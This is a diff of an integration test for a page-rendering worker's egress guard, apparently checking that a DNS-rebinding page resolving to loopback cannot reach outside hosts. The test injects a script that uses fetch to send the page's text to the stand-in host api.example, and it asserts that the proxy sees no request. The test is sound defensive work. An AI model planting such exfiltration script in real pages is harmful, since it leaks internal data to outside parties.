@@ -16,7 +16,7 @@ from schemas.job import Sources
 from tests.integration.chromium import SECRET, Chromium, Front, front
 from tests.integration.name_server import name_server
 from tests.integration.raw_server import FACT, HTML, LOOPBACK, enriching, page, saying, speaking
-from tests.integration.rendered_site import QUESTION, SHELL_TEXT, SHOW, application, canary, connect_proxy
+from tests.integration.rendered_site import QUESTION, SHELL, SHELL_TEXT, SHOW, application, canary, connect_proxy
 from workers.egress import EgressPolicy, Guard, Proxy
 from workers.enrichment.enrich import Enricher
 
@@ -268,9 +268,18 @@ async def test_a_public_page_loads_from_public_addresses_only(chromium: Chromium
     assert set(site.hosts) == {"app.example:8080", "api.example:8080"}
 
 
-async def test_a_page_whose_name_resolves_to_a_private_address_later_loads_nothing(chromium: Chromium) -> None:
-    async with name_server({"rebind.example": [["127.0.0.1"]]}) as names:
-        guard = Guard(LOOPBACK, names.resolver())
-        async with front(chromium) as service, application() as site, rendering(service, guard) as enricher:
+async def test_a_page_that_came_from_the_inside_by_a_name_that_is_not_listed_loads_nothing(chromium: Chromium) -> None:
+    """Its script could send the internal page's text to any public address, by a URL."""
+    lookups = {"rebind.example": [["127.0.0.1"]], "api.example": [[PUBLIC]]}
+    told = "<script>fetch('http://api.example:8080/' + document.body.textContent)</script>"
+    async with (
+        front(chromium) as service,
+        name_server(lookups) as names,
+        application(shell=SHELL.replace("</body>", f"{told}</body>")) as site,
+        connect_proxy(PUBLIC, site.port) as (port, asked),
+    ):
+        guard = Guard(replace(LOOPBACK, development=True), names.resolver(), Proxy("127.0.0.1", port, direct=LOOPBACK))
+        async with rendering(service, guard) as enricher:
             assert await text_of(enricher, f"http://rebind.example:{site.port}/") == SHELL_TEXT
     assert site.paths == ["/"]
+    assert asked == []
